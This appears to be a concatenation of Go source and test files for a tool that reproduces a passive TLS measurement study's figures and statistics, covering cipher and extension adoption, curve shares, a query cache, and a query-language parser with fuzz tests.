			buildSeries(agg, "AES256-GCM", suiteSel(func(s registry.Suite) bool {
				return s.Mode == registry.ModeGCM && s.Cipher == registry.CipherAES256
			})),
			buildSeries(agg, "ChaCha20-Poly1305", suiteSel(func(s registry.Suite) bool {
				return s.Cipher == registry.CipherChaCha20
			})),
		},
	}
}

// Figure10AEADAdvertised reproduces Figure 10: connections advertising
// AES-GCM, ChaCha20-Poly1305 and AES-CCM.
func Figure10AEADAdvertised(agg *notary.Aggregate) Figure {
	return Figure{
		ID:    "Figure 10",
		Title: "Client-advertised AEAD ciphers (% connections)",
		Series: []Series{
			buildSeries(agg, "AES128-GCM", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvAESGCM128) }),
			buildSeries(agg, "AES256-GCM", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvAESGCM256) }),
			buildSeries(agg, "ChaCha20-Poly1305", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvChaCha) }),
			buildSeries(agg, "AES-CCM", func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvCCM) }),
		},
	}
}

// ExtensionUptake builds the §9 "other fascinating insights" figure the
// paper mentions but had no space for: monthly advertisement of the
// renegotiation_info extension (the RIE response to the renegotiation
// attack), encrypt_then_mac (the Lucky 13 response with "very limited take
// up"), extended_master_secret, session_ticket, SNI and heartbeat.
func ExtensionUptake(agg *notary.Aggregate) Figure {
	ext := func(id registry.ExtensionID) metric {
		return func(ms *notary.MonthStats) float64 { return ms.Pct(ms.ByExtension[id]) }
	}
	return Figure{
		ID:    "Figure E1",
		Title: "Client-advertised TLS extensions (% connections)",
		Series: []Series{
			buildSeries(agg, "renegotiation_info", ext(registry.ExtRenegotiationInfo)),
			buildSeries(agg, "encrypt_then_mac", ext(registry.ExtEncryptThenMAC)),
			buildSeries(agg, "extended_master_secret", ext(registry.ExtExtendedMasterSecret)),
			buildSeries(agg, "session_ticket", ext(registry.ExtSessionTicket)),
			buildSeries(agg, "server_name", ext(registry.ExtServerName)),
			buildSeries(agg, "heartbeat", ext(registry.ExtHeartbeat)),
			buildSeries(agg, "supported_versions", ext(registry.ExtSupportedVersions)),
		},
		Events: attackEvents(timeline.EventLucky13, timeline.EventHeartbleed),
	}
}

// AllFigures builds every passive-dataset figure.
func AllFigures(agg *notary.Aggregate) []Figure {
	return []Figure{
		Figure1Versions(agg),
		Figure2NegotiatedClasses(agg),
		Figure3Advertised(agg),
		Figure4FingerprintClasses(agg),
		Figure5Positions(agg),
		Figure6RC4Advertised(agg),
		Figure7WeakAdvertised(agg),
		Figure8Kex(agg),
		Figure9AEADNegotiated(agg),
		Figure10AEADAdvertised(agg),
	}
}

// TLS13VariantShare is one advertised TLS 1.3 variant's share of
// variant-bearing hellos (§6.4: 0x7e02 at 82.3%, draft-18 at 13.4%).
type TLS13VariantShare struct {
	Variant registry.Version
	Share   float64
}

// TLS13VariantShares computes the advertised-variant split over all months.
func TLS13VariantShares(agg *notary.Aggregate) []TLS13VariantShare {
	totals := map[registry.Version]int{}
	grand := 0
	for _, m := range agg.Months() {
		for v, n := range agg.Stats(m).TLS13Variant {
			totals[v] += n
			grand += n
		}
	}
	out := make([]TLS13VariantShare, 0, len(totals))
	for v, n := range totals {
		out = append(out, TLS13VariantShare{Variant: v, Share: 100 * float64(n) / float64(grand)})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Share != out[j].Share {
			return out[i].Share > out[j].Share
		}
		return out[i].Variant < out[j].Variant
	})
	return out
}

// CurveShares computes the §6.3.3 table: negotiated curve shares over the
// whole dataset, descending.
type CurveShare struct {
	Curve registry.CurveID
	Share float64 // percent of curve-bearing connections
}

// CurveSharesOverall computes curve usage over all months.
func CurveSharesOverall(agg *notary.Aggregate) []CurveShare {
	totals := map[registry.CurveID]int{}
	grand := 0
	for _, m := range agg.Months() {
		for c, n := range agg.Stats(m).ByCurve {
			totals[c] += n
			grand += n
		}
	}
	out := make([]CurveShare, 0, len(totals))
	for c, n := range totals {
		out = append(out, CurveShare{Curve: c, Share: 100 * float64(n) / float64(grand)})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Share != out[j].Share {
			return out[i].Share > out[j].Share
		}
		return out[i].Curve < out[j].Curve
	})
	return out
}
