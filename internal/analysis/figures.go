// Package analysis turns aggregated Notary data into the paper's figures
// and summary statistics: monthly percentage series (Figures 1–10), the
// §4.1 fingerprint lifetime report and the §5/§6 scalar findings. All
// queries evaluate against a columnar Frame snapshot (frame.go) through the
// declarative figure catalog (catalog.go); renderers produce aligned text
// tables and ASCII charts, one per artifact.
package analysis

import (
	"sort"

	"tlsage/internal/notary"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// Point is one monthly value of a series.
type Point struct {
	Month timeline.Month
	Value float64 // percentage 0..100 (NaN-free; missing months are skipped)
}

// Series is a named monthly percentage series.
type Series struct {
	Name   string
	Points []Point
	// index maps a month to its offset in Points. Frame-built series share
	// the frame's month index, so Value is O(1); hand-built series leave it
	// nil and fall back to a linear scan.
	index map[timeline.Month]int
}

// Value returns the series value at m, ok=false when absent.
func (s *Series) Value(m timeline.Month) (float64, bool) {
	if s.index != nil {
		if i, ok := s.index[m]; ok && i < len(s.Points) && s.Points[i].Month == m {
			return s.Points[i].Value, true
		}
		return 0, false
	}
	for _, p := range s.Points {
		if p.Month == m {
			return p.Value, true
		}
	}
	return 0, false
}

// Figure is a reproduced figure: an identifier, its series and the attack
// events drawn as vertical markers.
type Figure struct {
	ID     string
	Title  string
	Series []Series
	Events []timeline.Event
}

// SeriesByName locates a series.
func (f *Figure) SeriesByName(name string) (*Series, bool) {
	for i := range f.Series {
		if f.Series[i].Name == name {
			return &f.Series[i], true
		}
	}
	return nil, false
}

func attackEvents(names ...string) []timeline.Event {
	var out []timeline.Event
	for _, e := range timeline.Events() {
		for _, n := range names {
			if e.Name == n {
				out = append(out, e)
			}
		}
	}
	return out
}

// AllFigures builds every passive-dataset figure from one frame snapshot of
// agg. Callers holding a Frame (core.Study caches one) should use
// Frame.Figures directly.
func AllFigures(agg *notary.Aggregate) []Figure {
	return NewFrame(agg).Figures()
}

// TLS13VariantShare is one advertised TLS 1.3 variant's share of
// variant-bearing hellos (§6.4: 0x7e02 at 82.3%, draft-18 at 13.4%).
type TLS13VariantShare struct {
	Variant registry.Version
	Share   float64
}

// TLS13VariantSharesFrame computes the advertised-variant split over all
// months of the frame.
func TLS13VariantSharesFrame(f *Frame) []TLS13VariantShare {
	grand := 0
	totals := make(map[registry.Version]int, len(f.TLS13Variant))
	for v, c := range f.TLS13Variant {
		n := sumCol(c)
		totals[v] = n
		grand += n
	}
	out := make([]TLS13VariantShare, 0, len(totals))
	for v, n := range totals {
		out = append(out, TLS13VariantShare{Variant: v, Share: 100 * float64(n) / float64(grand)})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Share != out[j].Share {
			return out[i].Share > out[j].Share
		}
		return out[i].Variant < out[j].Variant
	})
	return out
}

// TLS13VariantShares computes the advertised-variant split over all months.
func TLS13VariantShares(agg *notary.Aggregate) []TLS13VariantShare {
	return TLS13VariantSharesFrame(NewFrame(agg))
}

// CurveShare is one row of the §6.3.3 table: negotiated curve shares over
// the whole dataset, descending.
type CurveShare struct {
	Curve registry.CurveID
	Share float64 // percent of curve-bearing connections
}

// CurveSharesFrame computes curve usage over all months of the frame.
func CurveSharesFrame(f *Frame) []CurveShare {
	grand := 0
	totals := make(map[registry.CurveID]int, len(f.Curve))
	for cv, c := range f.Curve {
		n := sumCol(c)
		totals[cv] = n
		grand += n
	}
	out := make([]CurveShare, 0, len(totals))
	for c, n := range totals {
		out = append(out, CurveShare{Curve: c, Share: 100 * float64(n) / float64(grand)})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Share != out[j].Share {
			return out[i].Share > out[j].Share
		}
		return out[i].Curve < out[j].Curve
	})
	return out
}

// CurveSharesOverall computes curve usage over all months.
func CurveSharesOverall(agg *notary.Aggregate) []CurveShare {
	return CurveSharesFrame(NewFrame(agg))
}
