package analysis

import (
	"fmt"
	"testing"
)

// cachedResult builds a small series result for cache tests.
func cachedResult(query string, points int) QueryResult {
	res := QueryResult{Query: query, Kind: "series"}
	res.Series.Name = query
	res.Series.Points = make([]Point, points)
	return res
}

func TestQueryCacheHitMiss(t *testing.T) {
	c := NewQueryCache(8, 1<<20)
	res := cachedResult("pct(adv-rc4 / total)", 75)
	c.Put("notary", 0, 100, res.Query, res, nil)

	got, _, ok := c.Get("notary", 0, 100, res.Query)
	if !ok {
		t.Fatal("expected a hit on the stored key")
	}
	if got.Query != res.Query || len(got.Series.Points) != 75 {
		t.Fatalf("hit returned wrong result: %+v", got)
	}
	// Any coordinate change misses: generation advance (ingest), epoch bump
	// (aggregate replacement), different study, different query.
	misses := [][4]any{
		{"notary", uint64(0), uint64(101), res.Query},
		{"notary", uint64(1), uint64(100), res.Query},
		{"other", uint64(0), uint64(100), res.Query},
		{"notary", uint64(0), uint64(100), "count(total)"},
	}
	for _, m := range misses {
		if _, _, ok := c.Get(m[0].(string), m[1].(uint64), m[2].(uint64), m[3].(string)); ok {
			t.Errorf("unexpected hit for %v", m)
		}
	}
	st := c.Stats()
	if st.Hits != 1 || st.Misses != 4 || st.Entries != 1 {
		t.Errorf("stats = %+v, want 1 hit / 4 misses / 1 entry", st)
	}
}

func TestQueryCacheEntryEviction(t *testing.T) {
	c := NewQueryCache(3, 1<<20)
	for i := 0; i < 5; i++ {
		q := fmt.Sprintf("q%d", i)
		c.Put("s", 0, 1, q, cachedResult(q, 10), nil)
	}
	st := c.Stats()
	if st.Entries != 3 || st.Evictions != 2 {
		t.Fatalf("stats = %+v, want 3 entries / 2 evictions", st)
	}
	// LRU order: q0 and q1 evicted, q2..q4 retained.
	if _, _, ok := c.Get("s", 0, 1, "q0"); ok {
		t.Error("oldest entry survived eviction")
	}
	if _, _, ok := c.Get("s", 0, 1, "q4"); !ok {
		t.Error("newest entry was evicted")
	}
	// A Get refreshes recency: touch q2, insert two more, q3 dies first.
	if _, _, ok := c.Get("s", 0, 1, "q2"); !ok {
		t.Fatal("q2 missing")
	}
	c.Put("s", 0, 1, "q5", cachedResult("q5", 10), nil)
	c.Put("s", 0, 1, "q6", cachedResult("q6", 10), nil)
	if _, _, ok := c.Get("s", 0, 1, "q2"); !ok {
		t.Error("recently used entry was evicted")
	}
	if _, _, ok := c.Get("s", 0, 1, "q3"); ok {
		t.Error("least recently used entry survived")
	}
}

func TestQueryCacheByteBudget(t *testing.T) {
	// Each 100-point entry costs ~2400 B + overhead; a 6 KB budget holds two.
	c := NewQueryCache(100, 6000)
	for i := 0; i < 4; i++ {
		q := fmt.Sprintf("q%d", i)
		c.Put("s", 0, 1, q, cachedResult(q, 100), nil)
	}
	st := c.Stats()
	if st.Entries != 2 || st.Bytes > 6000 {
		t.Fatalf("stats = %+v, want 2 entries within the 6000-byte budget", st)
	}
	// A single result over the whole budget is refused, not cached.
	c.Put("s", 0, 1, "huge", cachedResult("huge", 1000), nil)
	if _, _, ok := c.Get("s", 0, 1, "huge"); ok {
		t.Error("oversized result was cached")
	}
	// Replacing an entry under the same key adjusts the byte account.
	before := c.Stats().Bytes
	c.Put("s", 0, 1, "q3", cachedResult("q3", 10), nil)
	if after := c.Stats().Bytes; after >= before {
		t.Errorf("replacing with a smaller result grew bytes: %d -> %d", before, after)
	}
}

func TestQueryCacheNilSafe(t *testing.T) {
	var c *QueryCache
	c.Put("s", 0, 1, "q", cachedResult("q", 1), nil)
	if _, _, ok := c.Get("s", 0, 1, "q"); ok {
		t.Error("nil cache hit")
	}
	if st := c.Stats(); st != (QueryCacheStats{}) {
		t.Errorf("nil cache stats = %+v", st)
	}
}

// TestQueryCacheBody pins the serialized-body side channel: a hit returns
// the exact bytes stored with the result, the body counts against the byte
// budget, and entries stored without one return nil.
func TestQueryCacheBody(t *testing.T) {
	c := NewQueryCache(8, 1<<20)
	res := cachedResult("count(total)", 10)
	body, err := res.EncodeJSONBody()
	if err != nil {
		t.Fatal(err)
	}
	c.Put("s", 0, 1, res.Query, res, body)
	_, got, ok := c.Get("s", 0, 1, res.Query)
	if !ok || string(got) != string(body) {
		t.Fatalf("hit body = %q (ok=%v), want stored body", got, ok)
	}

	c.Put("s", 0, 1, "bodyless", res, nil)
	if _, b, ok := c.Get("s", 0, 1, "bodyless"); !ok || b != nil {
		t.Fatalf("bodyless entry returned body %q (ok=%v)", b, ok)
	}

	// The body is part of the accounted size.
	with := resultSize(cacheKey{"s", 0, 1, res.Query}, res, body)
	without := resultSize(cacheKey{"s", 0, 1, res.Query}, res, nil)
	if with != without+int64(len(body)) {
		t.Errorf("body not accounted: %d vs %d + %d", with, without, len(body))
	}
}

// TestQueryCacheHitAllocs pins the cache hit to O(1) allocations — the
// returned clone shares the immutable Points backing array, so a hit costs
// a map lookup plus the result copy, never a per-point copy.
func TestQueryCacheHitAllocs(t *testing.T) {
	c := NewQueryCache(8, 1<<20)
	res := cachedResult("pct(adv-rc4 / total)", 75)
	c.Put("notary", 0, 100, res.Query, res, nil)
	if n := testing.AllocsPerRun(200, func() {
		if _, _, ok := c.Get("notary", 0, 100, res.Query); !ok {
			t.Fatal("miss")
		}
	}); n != 0 {
		t.Errorf("cache hit: %.1f allocs/run, want 0", n)
	}
}
