package analysis

import (
	"encoding/json"
	"math/rand"
	"reflect"
	"strings"
	"sync"
	"testing"
)

// TestCatalogExprSerializedParity is the tentpole guarantee: every catalog
// metric survives a trip through both encodings (JSON and the text grammar)
// and still evaluates byte-identically to the in-memory expression — so a
// remote client holding only the serialized form computes exactly what
// Frame.EvalFigure computes.
func TestCatalogExprSerializedParity(t *testing.T) {
	f := sharedFrame(t)
	for _, spec := range Catalog() {
		for _, m := range spec.Metrics {
			want, err := f.EvalSeries(m.Expr)
			if err != nil {
				t.Fatalf("%s/%s: %v", spec.Name, m.Name, err)
			}

			reparsed, err := ParseQuery(m.Expr.String())
			if err != nil {
				t.Fatalf("%s/%s: reparse %q: %v", spec.Name, m.Name, m.Expr, err)
			}
			got, err := f.EvalSeries(reparsed)
			if err != nil {
				t.Fatalf("%s/%s: eval reparsed: %v", spec.Name, m.Name, err)
			}
			if !reflect.DeepEqual(got, want) {
				t.Errorf("%s/%s: text round-trip changed values", spec.Name, m.Name)
			}

			raw, err := json.Marshal(m.Expr)
			if err != nil {
				t.Fatalf("%s/%s: marshal: %v", spec.Name, m.Name, err)
			}
			var decoded Expr
			if err := json.Unmarshal(raw, &decoded); err != nil {
				t.Fatalf("%s/%s: unmarshal: %v", spec.Name, m.Name, err)
			}
			got, err = f.EvalSeries(&decoded)
			if err != nil {
				t.Fatalf("%s/%s: eval decoded: %v", spec.Name, m.Name, err)
			}
			if !reflect.DeepEqual(got, want) {
				t.Errorf("%s/%s: JSON round-trip changed values", spec.Name, m.Name)
			}
		}
	}
}

// TestQueryScalarOps pins each scalar reduction against a hand computation
// over the shared frame.
func TestQueryScalarOps(t *testing.T) {
	f := sharedFrame(t)
	series, err := f.EvalSeries(q("pct(class:rc4 / established)"))
	if err != nil {
		t.Fatal(err)
	}
	sum, min, max := 0.0, series[0], series[0]
	for _, v := range series {
		sum += v
		if v < min {
			min = v
		}
		if v > max {
			max = v
		}
	}
	cases := []struct {
		src  string
		want float64
	}{
		{"mean(pct(class:rc4 / established))", sum / float64(len(series))},
		{"min(pct(class:rc4 / established))", min},
		{"max(pct(class:rc4 / established))", max},
		{"first(pct(class:rc4 / established))", series[0]},
		{"last(pct(class:rc4 / established))", series[len(series)-1]},
		{"count(established)", float64(sumCol(f.Established))},
	}
	for _, c := range cases {
		res, err := f.QueryString(c.src)
		if err != nil {
			t.Fatalf("%s: %v", c.src, err)
		}
		if res.Kind != "scalar" || res.Value != c.want {
			t.Errorf("%s = %v (%s), want %v", c.src, res.Value, res.Kind, c.want)
		}
	}

	// at() on a month inside the window equals the series row; outside = 0.
	m := f.Months[f.Len()/2]
	res, err := f.QueryString("at(pct(class:rc4 / established), " + m.String() + ")")
	if err != nil {
		t.Fatal(err)
	}
	if res.Value != series[f.Len()/2] {
		t.Errorf("at(%v) = %v, want %v", m, res.Value, series[f.Len()/2])
	}
	res, err = f.QueryString("at(pct(class:rc4 / established), 1999-01)")
	if err != nil || res.Value != 0 {
		t.Errorf("at(missing month) = %v, %v, want 0", res.Value, err)
	}
}

// TestQueryWildcardColumn pins family wildcards: curve:* is the element-wise
// sum of every observed curve column.
func TestQueryWildcardColumn(t *testing.T) {
	f := sharedFrame(t)
	vals, err := f.EvalSeries(q("curve:*"))
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < f.Len(); i++ {
		want := 0
		for _, c := range f.Curve {
			want += c[i]
		}
		if vals[i] != float64(want) {
			t.Fatalf("curve:* row %d = %v, want %d", i, vals[i], want)
		}
	}
}

// TestQueryCaseInsensitive: selectors, op names and aliases fold.
func TestQueryCaseInsensitive(t *testing.T) {
	f := sharedFrame(t)
	a, err := f.QueryString("pct(version:tls12 / established)")
	if err != nil {
		t.Fatal(err)
	}
	b, err := f.QueryString("PCT(Version:TLSv12 / ESTABLISHED)")
	if err != nil {
		t.Fatal(err)
	}
	c, err := f.QueryString("ratio(version:tls12 / established)")
	if err != nil {
		t.Fatal(err)
	}
	for _, other := range []QueryResult{b, c} {
		if !reflect.DeepEqual(a.Series.Points, other.Series.Points) {
			t.Fatal("case/alias variants evaluate differently")
		}
	}
	if c.Query != "pct(version:tls12 / established)" {
		t.Errorf("ratio alias canonicalizes to %q", c.Query)
	}
}

func TestParseQueryErrors(t *testing.T) {
	bad := []string{
		"",
		"pct(version:tls12 / established",  // unbalanced
		"pct(version:tls12, established)",  // wrong separator
		"no-such-column",                   // unknown name
		"version:tls99",                    // unknown key
		"nosuchfamily:tls12",               // unknown family
		"at(established, 2018-13)",         // bad month
		"at(established)",                  // missing month
		"mean(at(established, 2018-02))",   // scalar where series expected
		"sum(pct(adv-rc4 / total), total)", // series where column expected
		"position(nosuchclass)",
		"pct(version:tls12 / established) trailing",
	}
	for _, src := range bad {
		if _, err := ParseQuery(src); err == nil {
			t.Errorf("ParseQuery(%q) accepted", src)
		}
	}
	// EvalSeries rejects scalar-kind expressions, EvalScalar series-kind.
	f := sharedFrame(t)
	if _, err := f.EvalSeries(q("count(total)")); err == nil {
		t.Error("EvalSeries accepted a scalar expression")
	}
	if _, err := f.EvalScalar(q("pct(adv-rc4 / total)")); err == nil {
		t.Error("EvalScalar accepted a series expression")
	}
}

// randomExpr generates a valid expression tree of bounded depth for the
// round-trip property tests.
func randomExpr(rnd *rand.Rand, wantKind Kind, depth int) *Expr {
	cols := []string{
		"total", "established", "fingerprints", "adv-rc4", "neg-aead",
		"kex-forward-secret", "version:tls12", "version:ssl3", "class:aead",
		"kex:ecdhe", "ext:heartbeat", "curve:x25519", "curve:*", "tls13:tls13-google",
	}
	column := func() *Expr { return &Expr{Op: OpCol, Col: cols[rnd.Intn(len(cols))]} }
	months := []string{"2012-02", "2015-09", "2018-04", "1999-01"}
	classes := []string{"aead", "cbc", "rc4", "des", "3des"}
	switch wantKind {
	case KindColumn:
		if depth <= 0 || rnd.Intn(2) == 0 {
			return column()
		}
		n := 1 + rnd.Intn(3)
		args := make([]*Expr, n)
		for i := range args {
			args[i] = randomExpr(rnd, KindColumn, depth-1)
		}
		return &Expr{Op: OpSum, Args: args}
	case KindSeries:
		switch rnd.Intn(3) {
		case 0:
			return &Expr{Op: OpPosition, Class: classes[rnd.Intn(len(classes))]}
		case 1:
			return randomExpr(rnd, KindColumn, depth-1)
		default:
			return &Expr{Op: OpPct, Args: []*Expr{
				randomExpr(rnd, KindColumn, depth-1),
				randomExpr(rnd, KindColumn, depth-1),
			}}
		}
	default:
		switch rnd.Intn(4) {
		case 0:
			return &Expr{Op: OpAt, Month: months[rnd.Intn(len(months))],
				Args: []*Expr{randomExpr(rnd, KindSeries, depth-1)}}
		case 1:
			return &Expr{Op: OpOver, Args: []*Expr{
				randomExpr(rnd, KindColumn, depth-1),
				randomExpr(rnd, KindColumn, depth-1),
			}}
		case 2:
			return &Expr{Op: OpCount, Args: []*Expr{randomExpr(rnd, KindColumn, depth-1)}}
		default:
			reds := []string{OpMean, OpMin, OpMax, OpFirst, OpLast}
			return &Expr{Op: reds[rnd.Intn(len(reds))],
				Args: []*Expr{randomExpr(rnd, KindSeries, depth-1)}}
		}
	}
}

// TestExprJSONRoundTripProperty: random valid expressions survive
// marshal→unmarshal bit-exactly, their text form re-parses to the same
// tree, and both forms evaluate identically.
func TestExprJSONRoundTripProperty(t *testing.T) {
	f := sharedFrame(t)
	rnd := rand.New(rand.NewSource(7))
	for i := 0; i < 500; i++ {
		e := randomExpr(rnd, Kind(rnd.Intn(3)), 3)
		if err := e.Validate(); err != nil {
			t.Fatalf("generated invalid expr %s: %v", e, err)
		}

		raw, err := json.Marshal(e)
		if err != nil {
			t.Fatalf("marshal %s: %v", e, err)
		}
		var decoded Expr
		if err := json.Unmarshal(raw, &decoded); err != nil {
			t.Fatalf("unmarshal %s: %v", raw, err)
		}
		if !reflect.DeepEqual(&decoded, e) {
			t.Fatalf("JSON round trip changed the tree:\n%s\n%s", e, &decoded)
		}

		reparsed, err := ParseQuery(e.String())
		if err != nil {
			t.Fatalf("reparse %q: %v", e, err)
		}
		if !reflect.DeepEqual(reparsed, e) {
			t.Fatalf("text round trip changed the tree: %q -> %q", e, reparsed)
		}

		want, err := f.Query(e)
		if err != nil {
			t.Fatalf("eval %s: %v", e, err)
		}
		got, err := f.Query(&decoded)
		if err != nil {
			t.Fatalf("eval decoded %s: %v", &decoded, err)
		}
		if want.Kind != got.Kind || want.Value != got.Value ||
			!reflect.DeepEqual(want.Series.Points, got.Series.Points) {
			t.Fatalf("decoded tree evaluates differently: %s", e)
		}
	}
}

// FuzzParseQuery: the parser must never panic, and any accepted input must
// reach the parse→format→parse fixpoint.
func FuzzParseQuery(fz *testing.F) {
	for _, spec := range Catalog() {
		for _, m := range spec.Metrics {
			fz.Add(m.Expr.String())
		}
	}
	fz.Add("at(pct(adv-tls13 / total), 2018-04)")
	fz.Add("over(null-negotiated / established)")
	fz.Add("max(pct(curve:x25519 / curve:*))")
	fz.Add("position(3des)")
	fz.Add("sum(kex:ecdhe, kex:tls13")
	fz.Add("pct((()))//,")
	fz.Fuzz(func(t *testing.T, src string) {
		e, err := ParseQuery(src)
		if err != nil {
			return
		}
		canonical := e.String()
		again, err := ParseQuery(canonical)
		if err != nil {
			t.Fatalf("canonical form %q of %q fails to parse: %v", canonical, src, err)
		}
		if got := again.String(); got != canonical {
			t.Fatalf("no fixpoint: %q -> %q -> %q", src, canonical, got)
		}
	})
}

// TestQueryEvalAllocs pins the interpreter's allocation discipline: a
// validated catalog-shaped query allocates only its result slice, and a
// sum-based query adds exactly one scratch column — no per-month garbage.
func TestQueryEvalAllocs(t *testing.T) {
	f := sharedFrame(t)
	pct := q("pct(version:tls12 / established)")
	if n := testing.AllocsPerRun(200, func() {
		if _, err := f.EvalSeries(pct); err != nil {
			t.Fatal(err)
		}
	}); n > 1 {
		t.Errorf("pct query: %.1f allocs/run, want 1 (the result slice)", n)
	}
	sum := q("pct(sum(kex:ecdhe, kex:tls13) / established)")
	if n := testing.AllocsPerRun(200, func() {
		if _, err := f.EvalSeries(sum); err != nil {
			t.Fatal(err)
		}
	}); n > 2 {
		t.Errorf("sum query: %.1f allocs/run, want 2 (result + one scratch column)", n)
	}
	// Scalar reads allocate at most the intermediate series.
	at := q("at(pct(adv-tls13 / total), 2018-04)")
	if n := testing.AllocsPerRun(200, func() {
		if _, err := f.EvalScalar(at); err != nil {
			t.Fatal(err)
		}
	}); n > 1 {
		t.Errorf("at query: %.1f allocs/run, want 1", n)
	}
}

// TestConcurrentCatalogEval hammers the shared catalog specs from many
// goroutines (run under -race): Validate and evaluation must never write to
// the shared expression trees, or concurrent /figures requests would race.
func TestConcurrentCatalogEval(t *testing.T) {
	f := sharedFrame(t)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 20; i++ {
				if figs := f.Figures(); len(figs) != 10 {
					t.Error("figure count")
					return
				}
				for _, spec := range Catalog() {
					for _, m := range spec.Metrics {
						if err := m.Expr.Validate(); err != nil {
							t.Errorf("validate %s: %v", m.Expr, err)
							return
						}
					}
				}
			}
		}()
	}
	wg.Wait()
}

// TestColumnNames: the discoverable vocabulary is sorted and resolvable.
func TestColumnNames(t *testing.T) {
	names := ColumnNames()
	if len(names) != len(namedColumns) {
		t.Fatalf("ColumnNames lists %d of %d", len(names), len(namedColumns))
	}
	if !strings.HasPrefix(names[0], "adv-") {
		t.Errorf("names not sorted: %v", names[:3])
	}
	f := sharedFrame(t)
	for _, n := range names {
		if _, err := f.QueryString(n); err != nil {
			t.Errorf("column %q does not evaluate: %v", n, err)
		}
	}
}

// TestQueryResultJSONRoundTrip covers the client path: a served result
// decodes back into an equal value (modulo the series month index).
func TestQueryResultJSONRoundTrip(t *testing.T) {
	f := sharedFrame(t)
	for _, src := range []string{"pct(class:aead / established)", "count(total)"} {
		want, err := f.QueryString(src)
		if err != nil {
			t.Fatal(err)
		}
		raw, err := json.Marshal(want)
		if err != nil {
			t.Fatal(err)
		}
		var got QueryResult
		if err := json.Unmarshal(raw, &got); err != nil {
			t.Fatal(err)
		}
		if got.Query != want.Query || got.Kind != want.Kind || got.Value != want.Value ||
			!reflect.DeepEqual(got.Series.Points, want.Series.Points) {
			t.Errorf("%s: round trip changed the result", src)
		}
		// The decoded series still answers Value lookups (linear fallback).
		if want.Kind == "series" {
			m := f.Months[0]
			wv, _ := want.Series.Value(m)
			gv, ok := got.Series.Value(m)
			if !ok || gv != wv {
				t.Errorf("%s: decoded Value(%v) = %v,%v want %v", src, m, gv, ok, wv)
			}
		}
	}
}
