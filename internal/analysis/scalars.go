package analysis

import (
	"fmt"
	"io"
	"sort"
	"time"

	"tlsage/internal/clientdb"
	"tlsage/internal/fingerprint"
	"tlsage/internal/notary"
	"tlsage/internal/timeline"
)

// Scalar is one named paper-vs-measured comparison.
type Scalar struct {
	ID       string  // experiment id, e.g. "S7a"
	Name     string  // human description
	Paper    float64 // the value printed in the paper
	Measured float64
	Unit     string // "%" or "days" or ""
}

// Deviation returns the absolute difference.
func (s Scalar) Deviation() float64 {
	d := s.Measured - s.Paper
	if d < 0 {
		return -d
	}
	return d
}

// PassiveScalars extracts the paper's headline passive-measurement scalars
// from an aggregate covering the study window.
func PassiveScalars(agg *notary.Aggregate) []Scalar {
	return PassiveScalarsFrame(NewFrame(agg))
}

// passiveScalarSpecs declares the unconditional passive scalars as query
// expressions: a monthly pct read through at(), matching the figure
// convention that a missing month or empty denominator yields 0.
var passiveScalarSpecs = []struct {
	ID, Name string
	Paper    float64
	Expr     *Expr
}{
	{"S-F1a", "TLS 1.0 negotiated, Feb 2018", 2.8, q("at(pct(version:tls10 / established), 2018-02)")},
	{"S-F1b", "TLS 1.2 negotiated, Feb 2018", 90, q("at(pct(version:tls12 / established), 2018-02)")},
	{"S7a", "TLS 1.3 client support, Feb 2018", 0.5, q("at(pct(adv-tls13 / total), 2018-02)")},
	{"S7b", "TLS 1.3 client support, Mar 2018", 9.8, q("at(pct(adv-tls13 / total), 2018-03)")},
	{"S7c", "TLS 1.3 client support, Apr 2018", 23.6, q("at(pct(adv-tls13 / total), 2018-04)")},
	{"S7d", "TLS 1.3 negotiated, Apr 2018", 1.3, q("at(pct(version:tls13 / established), 2018-04)")},
	{"S3c", "heartbeat negotiated, 2018", 3.0, q("at(pct(heartbeat-ack / total), 2018-03)")},
	{"S-F3a", "3DES advertised, Mar 2018", 69, q("at(pct(adv-3des / total), 2018-03)")},
	{"S-F7a", "export advertised, 2012", 28.19, q("at(pct(adv-export / total), 2012-06)")},
	{"S-F7b", "export advertised, 2018", 1.03, q("at(pct(adv-export / total), 2018-03)")},
}

// conditionalScalarExprs holds the guarded scalar rows' expressions as
// package-level data, so they parse once and compile into every frame's
// shared plan set instead of re-parsing on each PassiveScalarsFrame call.
var (
	exprNullNegotiated = q("over(null-negotiated / established)")
	exprAnonNegotiated = q("over(anon-negotiated / established)")
	exprSecp256r1Share = q("over(curve:secp256r1 / curve:*)")
	exprSecp384r1Share = q("over(curve:secp384r1 / curve:*)")
	exprX25519Share    = q("over(curve:x25519 / curve:*)")
	exprX25519Feb18    = q("at(pct(curve:x25519 / curve:*), 2018-02)")

	conditionalScalarExprs = []*Expr{
		exprNullNegotiated, exprAnonNegotiated,
		exprSecp256r1Share, exprSecp384r1Share, exprX25519Share, exprX25519Feb18,
	}
)

// scalarOf evaluates a static scalar expression through the frame's
// pre-compiled plan, falling back to the interpreter for foreign
// expressions.
func (f *Frame) scalarOf(e *Expr) float64 {
	if p := f.planFor(e); p != nil {
		return p.EvalScalar()
	}
	return f.evalScalar(e)
}

// PassiveScalarsFrame extracts the passive scalars from a frame snapshot.
// Every value is the evaluation of a serializable query expression,
// executed through the frame's pre-compiled plans; the few rows the seed
// emitted conditionally keep their presence guards.
func PassiveScalarsFrame(f *Frame) []Scalar {
	out := make([]Scalar, 0, len(passiveScalarSpecs)+6)
	for _, s := range passiveScalarSpecs {
		out = append(out, Scalar{s.ID, s.Name, s.Paper, f.scalarOf(s.Expr), "%"})
	}

	// Whole-dataset NULL and anonymous negotiation rates (§6.1, §6.2).
	if sumCol(f.Established) > 0 {
		out = append(out,
			Scalar{"S-61", "NULL negotiated, whole dataset", 2.84,
				f.scalarOf(exprNullNegotiated), "%"},
			Scalar{"S-62", "anonymous negotiated, whole dataset", 0.17,
				f.scalarOf(exprAnonNegotiated), "%"},
		)
	}

